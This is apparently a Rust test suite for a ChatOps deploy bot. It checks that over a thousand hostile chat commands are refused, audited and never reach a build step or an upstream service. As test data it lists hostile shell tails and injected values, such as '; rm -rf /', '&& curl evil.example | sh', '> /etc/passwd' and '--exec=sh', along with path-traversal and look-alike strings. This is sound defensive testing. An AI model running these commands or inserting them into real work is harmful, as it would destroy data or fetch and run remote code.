//! Hostile input: shell metacharacters, path traversal, Unicode look-alikes, invisible and
//! control characters, NUL bytes, option injection and 100 kB messages, placed into every
//! argument of every command that takes user text. Each one must be `invalid` with the sentence
//! naming what is wrong, be on the audit record (bounded, NUL-free) with the chain intact, and
//! reach nothing: no step runs (the sandbox's infra justfile records every step it starts in
//! `state/steps.log`), no request reaches GitHub or the registry and Airflow sees no `PATCH`.
//!
//! The generated table runs in-process through the same entry point as `exec` and `console`, on
//! both store backends; a representative subset runs through the real `exec --json` binary.

use crate::support;

use std::path::Path;

use catalog_chatops::Engine;
use catalog_chatops::chat::Transcript;
use catalog_chatops::chat::exec::handle_addressed;
use catalog_chatops::config::{self, Config};
use catalog_chatops::integrations::Service;
use catalog_chatops::policy::Actor;
use catalog_chatops::sandbox::{self, SandboxHandle, World};
use catalog_chatops::store::{AuditEvent, NewAuditEvent, Store};
use serde_json::Value;

const BIN: &str = env!("CARGO_BIN_EXE_catalog-chatops");
/// The parser's echo limit (characters of user input quoted in a sentence).
const ECHO: usize = 60;
/// The audit log keeps a message whole up to this many characters (the parser's limit).
const MAX_RAW: usize = 2000;

/// What kind of value an argument slot takes, and so which sentence refuses it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Slot {
    Version,
    Target,
    Id,
    Resolution,
    DagId,
    Migration,
    Days,
    AuditLimit,
}

impl Slot {
    /// A value this slot accepts, for "valid value, then a smuggled tail".
    fn valid(self) -> &'static str {
        match self {
            Slot::Version => "v1.5.3",
            Slot::Target => "catalog",
            Slot::Id => "7",
            Slot::Resolution => "failed",
            Slot::DagId => "inaturalist_workflow",
            Slot::Migration => "0001_add_index",
            Slot::Days => "7",
            Slot::AuditLimit => "20",
        }
    }

    /// The sentence (a fragment of it) refusing `token` in this slot.
    fn refusal(self, token: &str) -> String {
        let q = code(token);
        match self {
            Slot::Version if token.chars().count() > 64 => format!(
                "That version is {} characters long; release versions are at most 64.",
                token.chars().count()
            ),
            Slot::Version => format!("{q} is not a release version"),
            Slot::Target => format!("Unknown target {q}."),
            Slot::Id => format!("{q} is not a deploy id"),
            Slot::Resolution => format!("{q} is not a resolution"),
            // A well-formed id (`-rf` is one to Airflow) is looked up and not found.
            Slot::DagId if dag_id_shaped(token) => {
                format!("Airflow has no DAG `{token}`.")
            }
            Slot::DagId => format!("{q} is not a DAG id: "),
            Slot::Migration => format!("{q} is not a migration name: "),
            Slot::Days => format!("{q} is not a number of days"),
            Slot::AuditLimit => format!("{q} is not a number of audit events"),
        }
    }
}

/// One command form with one user-supplied argument (`{}`).
struct Form {
    template: &'static str,
    /// The command words as the parser names them in sentences.
    words: &'static str,
    slot: Slot,
    /// Accepts some option, so an unknown one is "Unknown option", not "takes no options".
    has_options: bool,
}

const FORMS: &[Form] = &[
    Form {
        template: "!deploy catalog {}",
        words: "deploy",
        slot: Slot::Version,
        has_options: true,
    },
    Form {
        template: "!deploy catalog {} --force",
        words: "deploy",
        slot: Slot::Version,
        has_options: true,
    },
    Form {
        template: "!deploy check catalog {}",
        words: "deploy check",
        slot: Slot::Version,
        has_options: false,
    },
    Form {
        template: "!deploy rollback {}",
        words: "deploy rollback",
        slot: Slot::Target,
        has_options: false,
    },
    Form {
        template: "!deploy history {}",
        words: "deploy history",
        slot: Slot::Target,
        has_options: false,
    },
    Form {
        template: "!deploy approve {}",
        words: "deploy approve",
        slot: Slot::Id,
        has_options: false,
    },
    Form {
        template: "!deploy cancel {}",
        words: "deploy cancel",
        slot: Slot::Id,
        has_options: false,
    },
    Form {
        template: "!deploy status {}",
        words: "deploy status",
        slot: Slot::Id,
        has_options: false,
    },
    Form {
        template: "!deploy resolve {} succeeded",
        words: "deploy resolve",
        slot: Slot::Id,
        has_options: false,
    },
    Form {
        template: "!deploy resolve 1 {}",
        words: "deploy resolve",
        slot: Slot::Resolution,
        has_options: false,
    },
    Form {
        template: "!dag enable {}",
        words: "dag enable",
        slot: Slot::DagId,
        has_options: true,
    },
    Form {
        template: "!dag enable {} --confirm",
        words: "dag enable",
        slot: Slot::DagId,
        has_options: true,
    },
    Form {
        template: "!migrations apply {}",
        words: "migrations apply",
        slot: Slot::Migration,
        has_options: false,
    },
    Form {
        template: "!dags new --days {}",
        words: "dags new",
        slot: Slot::Days,
        has_options: true,
    },
    Form {
        template: "!audit {}",
        words: "audit",
        slot: Slot::AuditLimit,
        has_options: false,
    },
];

/// Single hostile words: each has a character outside `[A-Za-z0-9_.-]`, starts with `-`, or is
/// too long, so that no slot can take it as a value (`-rf` is a well-formed DAG id and is looked
/// up instead).
fn hostile_tokens() -> Vec<String> {
    let mut v: Vec<String> = [
        // Shell metacharacters, alone and glued to a valid version.
        ";",
        "v1.5.3;",
        ";reboot",
        "$(reboot)",
        "v1.5.3$(id)",
        "`id`",
        "v1.5.3`id`",
        "|",
        "v1.5.3|sh",
        "&&",
        "v1.5.3&&id",
        ">",
        ">/etc/passwd",
        "v1.5.3>x",
        "<x",
        "'v1.5.3'",
        "\"v1.5.3\"",
        "v1.5.3'",
        "${IFS}",
        "{version}",
        "*",
        "~root",
        "v1.5.3#",
        "!",
        // Path traversal, plain and URL-encoded.
        "../../etc/passwd",
        "../",
        "..%2f..%2fetc",
        "%2e%2e/",
        "%2e%2e%2fetc%2fpasswd",
        "/etc/passwd",
        "file:///etc/passwd",
        "..\\..\\windows",
        // Look-alikes: Cyrillic izhitsa, Cyrillic Ze, Greek nu, fullwidth digits and letters,
        // Cyrillic с/а/о in `catalog`, Cyrillic і in a DAG id.
        "\u{475}1.5.3",
        "v1.5.\u{417}",
        "\u{3BD}1.5.3",
        "v\u{FF11}.\u{FF15}.\u{FF13}",
        "\u{FF56}1.5.3",
        "\u{441}\u{430}talog",
        "\u{441}\u{430}t\u{430}l\u{43E}g",
        "\u{456}naturalist_workflow",
        "v1\u{2024}5\u{2024}3",
        // Option injection.
        "-rf",
        "-v1.5.3",
        "-",
        "-1",
        "#-1",
        // Long values (beyond the echo limit, the version limit and the DAG id limit).
        &format!("-v1.5.3-{}", "a".repeat(70)),
        &format!("{};", "x".repeat(300)),
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    v.push(format!("a{}", "b".repeat(250)) + "!");
    v
}

/// Control and invisible characters, each placed inside a valid-looking value.
const FORBIDDEN: &[char] = &[
    '\0', '\u{7}', '\u{8}', '\u{1B}', '\u{7F}', '\u{85}', '\u{AD}', '\u{61C}', '\u{180E}',
    '\u{200B}', '\u{200D}', '\u{200E}', '\u{202E}', '\u{2066}', '\u{FEFF}',
];

/// Separators that end a word, then what an attacker hopes a shell would run.
const SEPARATORS: &[&str] = &[" ", "\n", "\t", "\r\n", "\u{3000}"];
const TAILS: &[&str] = &[
    "; rm -rf /",
    "&& curl evil.example | sh",
    "| sh",
    "`id`",
    "$(id)",
    "> /etc/passwd",
    "-rf",
    "--help",
    "--exec=sh",
];

/// One generated case: the message and a fragment its reply must contain.
#[derive(Debug, Clone)]
struct Case {
    text: String,
    expect: String,
}

fn code(s: &str) -> String {
    let mut shown: String = s
        .chars()
        .take(ECHO)
        .map(|c| if c == '`' { '\'' } else { c })
        .collect();
    if s.chars().count() > ECHO {
        shown.push('…');
    }
    format!("`{shown}`")
}

fn dag_id_shaped(s: &str) -> bool {
    !s.is_empty()
        && s.chars().count() <= 250
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-'))
        && !s.chars().all(|c| c == '.')
}

fn forbidden_sentence(text: &str, bad: char) -> String {
    let position = text.chars().position(|c| c == bad).expect("placed") + 1;
    format!(
        "Character {position} of the message is U+{:04X}, a control or invisible character",
        u32::from(bad)
    )
}

/// The whole table: every hostile word, forbidden character and smuggled tail in every slot,
/// plus whole messages (look-alike commands, 100 kB messages).
fn cases() -> Vec<Case> {
    let mut out = Vec::new();
    for form in FORMS {
        for token in hostile_tokens() {
            out.push(Case {
                text: form.template.replace("{}", &token),
                expect: form.slot.refusal(&token),
            });
        }
        let valid = form.slot.valid();
        for &bad in FORBIDDEN {
            let mid = valid.len() / 2;
            for value in [
                format!("{valid}{bad}"),
                format!("{bad}{valid}"),
                format!("{}{bad}{}", &valid[..mid], &valid[mid..]),
            ] {
                let text = form.template.replace("{}", &value);
                out.push(Case {
                    expect: forbidden_sentence(&text, bad),
                    text,
                });
            }
        }
        // A smuggled tail after a valid value; skipped where the template continues after the
        // slot (the tail would land in the next argument instead).
        if !form.template.ends_with("{}") {
            continue;
        }
        for sep in SEPARATORS {
            for tail in TAILS {
                let first = tail.split_whitespace().next().expect("a word");
                let expect = match first.strip_prefix("--") {
                    Some(_) => {
                        let typed = first.split_once('=').map_or(first, |(t, _)| t);
                        if form.has_options {
                            format!("Unknown option {} for `!{}`", code(typed), form.words)
                        } else {
                            format!(
                                "`!{}` takes no options, but got {}",
                                form.words,
                                code(typed)
                            )
                        }
                    }
                    None => format!("— unexpected {}.", code(first)),
                };
                out.push(Case {
                    text: form.template.replace("{}", &format!("{valid}{sep}{tail}")),
                    expect,
                });
            }
        }
    }
    out.extend(whole_messages());
    out
}

/// Messages whose hostility is in the command itself.
fn whole_messages() -> Vec<Case> {
    let huge = format!("!deploy catalog v1.5.3 {}", "A".repeat(100 * 1024));
    let huge_version = format!("!deploy check catalog v{}", "1".repeat(100 * 1024));
    let huge_dag = format!("!dag enable {}", "a".repeat(100 * 1024));
    let boundary = format!("!deploy catalog v1.5.3 {}", "x".repeat(2001 - 23));
    let too_long = |t: &str| {
        format!(
            "That message is {} characters long; commands are at most 2000.",
            t.chars().count()
        )
    };
    let nul = "!deploy catalog v1.5.3\0; rm -rf /".to_string();
    let rlo = "\u{202E}!deploy catalog v1.5.3".to_string();
    let mut v = vec![
        Case {
            expect: too_long(&huge),
            text: huge,
        },
        Case {
            expect: too_long(&huge_version),
            text: huge_version,
        },
        Case {
            expect: too_long(&huge_dag),
            text: huge_dag,
        },
        Case {
            expect: too_long(&boundary),
            text: boundary,
        },
        Case {
            expect: forbidden_sentence(&nul, '\0'),
            text: nul,
        },
        Case {
            expect: forbidden_sentence(&rlo, '\u{202E}'),
            text: rlo,
        },
    ];
    let fixed: [(&str, &str); 7] = [
        // A fullwidth `！` is not the prefix: on a terminal that is said, not silently dropped.
        (
            "\u{FF01}deploy catalog v1.5.3",
            "`\u{FF01}deploy catalog v1.5.3` is not a command: a command is `!` and a command \
             word, e.g. `!help`.",
        ),
        (
            "!\u{FF44}\u{FF45}\u{FF50}\u{FF4C}\u{FF4F}\u{FF59} catalog v1.5.3",
            "Unknown command `!\u{FF44}\u{FF45}\u{FF50}\u{FF4C}\u{FF4F}\u{FF59}`. The commands are",
        ),
        (
            "!d\u{435}ploy catalog v1.5.3",
            "Unknown command `!d\u{435}ploy`. Did you mean `!deploy`?",
        ),
        (
            "!deploy \u{441}\u{430}talog v1.5.3",
            "Unknown target `\u{441}\u{430}talog`. Known targets: `catalog`. Did you mean `catalog`?",
        ),
        (
            "!deploy check \u{441}\u{430}talog v1.5.3",
            "Unknown target `\u{441}\u{430}talog`.",
        ),
        (
            "!deploy\u{3000}catalog\u{3000}v1.5.3;id",
            "`v1.5.3;id` is not a release version",
        ),
        (
            "!deploy catalog v1.5.3 --force=yes",
            "Option `--force` takes no value, but got `--force=yes`.",
        ),
    ];
    v.extend(fixed.iter().map(|(t, e)| Case {
        text: t.to_string(),
        expect: e.to_string(),
    }));
    v
}

fn have_just() -> bool {
    support::require_tool("just", "the step-side positive control")
}

/// The sandbox config on `store_url`, pointed at the fakes, steps in `workdir`.
fn sandbox_config(h: &SandboxHandle, store_url: &str, workdir: &Path) -> Config {
    let toml = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/config/sandbox.toml"))
        .expect("config");
    let env = [
        ("CATALOG_CHATOPS__STORE__URL", store_url.to_string()),
        (
            "CATALOG_CHATOPS__TARGETS__CATALOG__WORKDIR",
            workdir.display().to_string(),
        ),
        // The table is one user sending a thousand messages; the limiter is not under test.
        (
            "CATALOG_CHATOPS__LIMITS__COMMANDS_PER_MINUTE",
            "10000".into(),
        ),
        ("CATALOG_CHATOPS__LIMITS__BURST", "10000".into()),
    ]
    .map(|(k, v)| (k.to_string(), v));
    let mut config = config::load_from_str(&toml, &env).expect("valid config");
    h.configure(&mut config);
    config.secrets.airflow_password = Some(secrecy::SecretString::from("sandbox"));
    config
}

fn upstream_requests(world: &World) -> (u64, u64, u64) {
    (
        world.count_prefix(Service::Github, ""),
        world.count_prefix(Service::Registry, ""),
        world.count_prefix(Service::Airflow, "PATCH "),
    )
}

async fn audit_events(store: &Store) -> Vec<AuditEvent> {
    let mut all = Vec::new();
    store
        .for_each_audit(|e| {
            all.push(e.clone());
            Ok(())
        })
        .await
        .expect("read audit");
    all
}

/// The audit row of a message: whole when it could be parsed at all, else a short prefix with the
/// length and a digest; never a NUL.
fn assert_raw_bounded(raw: &str) {
    assert!(!raw.contains('\0'), "NUL stored: {raw:?}");
    let chars = raw.chars().count();
    if chars > MAX_RAW {
        panic!("audit raw of {chars} characters");
    }
    if raw.contains("characters in all, sha256") {
        assert!(chars < 400, "a cut message keeps a short prefix: {chars}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_arguments_are_invalid_audited_and_reach_nothing() {
    let table = cases();
    assert!(table.len() > 1000, "the table shrank: {}", table.len());
    for ts in support::all_backends().await {
        let h = sandbox::start(World::openverse_idle())
            .await
            .expect("sandbox");
        let dir = tempfile::tempdir().expect("tempdir");
        let workdir = dir.path().join("infra");
        sandbox::session::write_infra(&workdir).expect("infra justfile");
        let log = workdir.join("state/steps.log");
        let config = sandbox_config(&h, &ts.url, &workdir);
        let engine = Engine::new(config, ts.store.clone()).expect("engine");
        let mallory = Actor::local("mallory", &["core-maintainer".into()], "tester");

        let mut failures = Vec::new();
        for case in &table {
            let conv = Transcript::new();
            let reply = handle_addressed(&engine, &mallory, &case.text, &conv).await;
            let ok = reply.outcome.as_str() == "invalid"
                && reply.outcome.exit_code() == 2
                && reply.message.contains(&case.expect)
                // Never a pasted essay back: the echo is bounded.
                && reply.message.chars().count() < 600
                && conv.messages() == vec![reply.message.clone()];
            if !ok {
                failures.push(format!(
                    "{:?}\n  got {} {:?}\n  expected …{:?}…",
                    preview(&case.text),
                    reply.outcome.as_str(),
                    reply.message,
                    case.expect
                ));
            }
        }
        assert!(
            failures.is_empty(),
            "{} of {} cases on {}:\n{}",
            failures.len(),
            table.len(),
            ts.backend,
            failures.join("\n")
        );

        // Nothing reached a step or an upstream change.
        assert!(
            !log.exists(),
            "a step ran: {:?}",
            std::fs::read_to_string(&log)
        );
        assert_eq!(
            upstream_requests(&h.world),
            (0, 0, 0),
            "GitHub, registry requests and Airflow PATCHes"
        );

        // Every attempt is on record, bounded, and the chain holds.
        let events = audit_events(&ts.store).await;
        let invalid = events
            .iter()
            .filter(|e| e.outcome.as_deref() == Some("invalid"))
            .count();
        assert_eq!(invalid, table.len(), "{}", ts.backend);
        let mut cut = 0;
        for e in &events {
            if let Some(raw) = &e.raw {
                assert_raw_bounded(raw);
                cut += usize::from(raw.contains("characters in all, sha256"));
            }
        }
        assert_eq!(
            cut, 4,
            "the messages over 2,000 characters are quoted by a prefix"
        );
        let nul_row = events
            .iter()
            .filter_map(|e| e.raw.as_deref())
            .find(|r| r.starts_with("!deploy catalog v1.5.3\u{FFFD}; rm"));
        assert!(
            nul_row.is_some(),
            "the NUL message is recorded, NUL replaced"
        );
        let report = ts.store.verify_audit().await.expect("verify");
        assert_eq!(report.first_broken, None, "{}", ts.backend);

        // The probes work: a valid deploy does run steps, a valid enable does PATCH.
        if have_just() {
            let conv = Transcript::new();
            let reply = handle_addressed(&engine, &mallory, "!deploy catalog v1.5.3", &conv).await;
            assert_eq!(reply.outcome.as_str(), "awaiting_approval", "{reply:?}");
            assert_eq!(steps_started(&log), ["bump", "plan"]);
        }
        let reply = handle_addressed(
            &engine,
            &mallory,
            "!dag enable justtakeitfree_workflow --confirm",
            &Transcript::new(),
        )
        .await;
        assert_eq!(reply.outcome.as_str(), "ok", "{reply:?}");
        assert_eq!(h.world.count_prefix(Service::Airflow, "PATCH "), 1);
        h.shutdown().await;
    }
}

fn preview(s: &str) -> String {
    if s.chars().count() > 120 {
        format!(
            "{}… ({} chars)",
            s.chars().take(120).collect::<String>(),
            s.chars().count()
        )
    } else {
        s.to_string()
    }
}

/// The same refusals through the real binary (`exec --json`), as a script or operator meets
/// them: exit code 2, outcome `invalid`, the sentence, no step, and `audit verify` passing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_messages_through_exec_are_invalid_and_run_no_step() {
    let h = sandbox::start(World::openverse_idle())
        .await
        .expect("sandbox");
    let dir = tempfile::tempdir().expect("tempdir");
    let workdir = dir.path().join("infra");
    sandbox::session::write_infra(&workdir).expect("infra justfile");
    let log = workdir.join("state/steps.log");
    let store_url = support::store_url(dir.path()).await;
    let run = |args: Vec<String>| {
        let mut c = tokio::process::Command::new(BIN);
        c.arg("--config")
            .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("config/sandbox.toml"))
            .args(&args)
            .env("CATALOG_CHATOPS__STORE__URL", &store_url)
            .env("CATALOG_CHATOPS__GITHUB__API_URL", &h.github_url)
            .env("CATALOG_CHATOPS__REGISTRY__URL", &h.registry_url)
            .env("CATALOG_CHATOPS__AIRFLOW__URL", &h.airflow_url)
            .env("CATALOG_CHATOPS__AIRFLOW__API", "v2")
            .env("CATALOG_CHATOPS__TARGETS__CATALOG__WORKDIR", &workdir)
            .env("AIRFLOW_PASSWORD", "sandbox")
            .env_remove("CATALOG_CHATOPS_CONFIG")
            .current_dir(dir.path())
            .kill_on_drop(true);
        async move { c.output().await.expect("run the binary") }
    };
    let exec = |text: String| {
        let args = [
            "exec",
            "--json",
            "--user",
            "mallory",
            "--role",
            "core-maintainer",
        ]
        .iter()
        .map(|s| s.to_string())
        .chain([text])
        .collect();
        run(args)
    };

    // A representative subset: one of each family, argv-safe (an argument cannot hold a NUL).
    let all = cases();
    let pick = |needle: &str| -> Case {
        all.iter()
            .find(|c| c.text == needle)
            .unwrap_or_else(|| panic!("not in the table: {needle:?}"))
            .clone()
    };
    let mut subset: Vec<Case> = [
        "!deploy catalog v1.5.3$(id)",
        "!deploy check catalog v1.5.3`id`",
        "!deploy catalog v1.5.3\n; rm -rf /",
        "!deploy catalog ../../etc/passwd",
        "!deploy check catalog %2e%2e/",
        "!deploy catalog \u{475}1.5.3",
        "!deploy rollback \u{441}\u{430}talog",
        "!dag enable inaturalist_workflow ; rm -rf /",
        "!dag enable ../../etc/passwd",
        "!dag enable -rf",
        "!migrations apply ../../etc/passwd",
        "!migrations apply -rf",
        "!deploy check catalog -rf",
        "!deploy catalog v1.5.3 --help",
        "!deploy approve 7\u{200D}",
        "!deploy catalog v1.5.3\u{202E}",
        "\u{FF01}deploy catalog v1.5.3",
    ]
    .iter()
    .map(|t| pick(t))
    .collect();
    let huge = all
        .iter()
        .find(|c| c.text.starts_with("!deploy catalog v1.5.3 AAAA"))
        .expect("the 100 kB case")
        .clone();
    subset.push(huge.clone());

    for case in &subset {
        let out = exec(case.text.clone()).await;
        let stdout = String::from_utf8_lossy(&out.stdout);
        let last: Value = stdout
            .lines()
            .last()
            .and_then(|l| serde_json::from_str(l).ok())
            .unwrap_or_else(|| {
                panic!(
                    "{:?}: no result line; stderr {}",
                    preview(&case.text),
                    String::from_utf8_lossy(&out.stderr)
                )
            });
        assert_eq!(
            (out.status.code(), last["outcome"].as_str()),
            (Some(2), Some("invalid")),
            "{:?}: {last}",
            preview(&case.text)
        );
        let message = last["message"].as_str().unwrap_or_default();
        assert!(
            message.contains(&case.expect),
            "{:?}: {message:?} lacks {:?}",
            preview(&case.text),
            case.expect
        );
        assert!(stdout.len() < 2_000, "reply of {} bytes", stdout.len());
    }
    assert!(
        !log.exists(),
        "a step ran: {:?}",
        std::fs::read_to_string(&log)
    );
    assert_eq!(upstream_requests(&h.world), (0, 0, 0));

    // `audit verify` passes and `audit export` shows every attempt, the 100 kB one cut short.
    let verify = run(vec!["audit".into(), "verify".into()]).await;
    assert_eq!(
        verify.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&verify.stdout)
    );
    let export = run(vec!["audit".into(), "export".into()]).await;
    let rows: Vec<Value> = String::from_utf8_lossy(&export.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("JSON line"))
        .collect();
    let invalid: Vec<&Value> = rows.iter().filter(|r| r["outcome"] == "invalid").collect();
    assert_eq!(invalid.len(), subset.len());
    for r in &invalid {
        assert_eq!(r["source"], "local");
        assert_eq!(r["actor"], "mallory");
        // A refusal by a handler (`Airflow has no DAG`) is a `result` event after the
        // `command` event that carries the text.
        match r["raw"].as_str() {
            Some(raw) => assert_raw_bounded(raw),
            None => assert_eq!(r["kind"], "result", "{r}"),
        }
    }
    let cut = invalid
        .iter()
        .filter_map(|r| r["raw"].as_str())
        .find(|raw| raw.starts_with("!deploy catalog v1.5.3 AAAA"))
        .expect("the 100 kB attempt is on record");
    assert!(
        cut.ends_with(&format!(
            "… [cut: {} characters in all, sha256 {}]",
            huge.text.chars().count(),
            sha256_hex(&huge.text)
        )),
        "{cut}"
    );

    // The probe works through `exec` too: a valid deploy runs bump and plan.
    if have_just() {
        let out = exec("!deploy catalog v1.5.3".into()).await;
        assert_eq!(
            out.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&out.stdout)
        );
        assert_eq!(steps_started(&log), ["bump", "plan"]);
    }
    h.shutdown().await;
}

/// The steps the infra justfile started, in order (`<recipe> start pid=N` lines).
fn steps_started(log: &Path) -> Vec<String> {
    std::fs::read_to_string(log)
        .expect("the step log")
        .lines()
        .filter_map(|l| {
            l.split_once(" start pid=")
                .map(|(step, _)| step.to_string())
        })
        .collect()
}

fn sha256_hex(s: &str) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(s.as_bytes()))
}

/// Postgres refuses NUL in text. A message carrying one must still be audited, and must not fail
/// the other events group-committed in the same transaction.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_nul_byte_never_fails_an_audit_append() {
    for ts in support::all_backends().await {
        let hostile = NewAuditEvent {
            kind: "command".into(),
            source: "discord".into(),
            actor: "mallory\0".into(),
            roles: vec!["core\0maintainer".into()],
            raw: Some("!deploy catalog v1.5.3\0; rm -rf /".into()),
            decision: Some("invalid".into()),
            outcome: Some("invalid".into()),
            detail: serde_json::json!({ "reason": "NUL \0 in JSON" }),
            ..NewAuditEvent::default()
        };
        let bystander = NewAuditEvent {
            kind: "command".into(),
            source: "discord".into(),
            actor: "alice".into(),
            raw: Some("!help".into()),
            ..NewAuditEvent::default()
        };
        let (a, b) = tokio::join!(
            ts.store.append_audit(&hostile),
            ts.store.append_audit(&bystander)
        );
        let a = a.unwrap_or_else(|e| panic!("{}: {e}", ts.backend));
        b.unwrap_or_else(|e| panic!("{}: the bystander failed: {e}", ts.backend));
        assert_eq!(a.actor, "mallory\u{FFFD}");
        assert_eq!(a.roles, vec!["core\u{FFFD}maintainer".to_string()]);
        let stored = audit_events(&ts.store).await;
        assert_eq!(stored.len(), 2, "{}", ts.backend);
        let raw = stored
            .iter()
            .find(|e| e.actor.starts_with("mallory"))
            .and_then(|e| e.raw.clone());
        assert_eq!(
            raw.as_deref(),
            Some("!deploy catalog v1.5.3\u{FFFD}; rm -rf /"),
            "{}",
            ts.backend
        );
        let report = ts.store.verify_audit().await.expect("verify");
        assert_eq!(report.first_broken, None, "{}", ts.backend);
    }
}
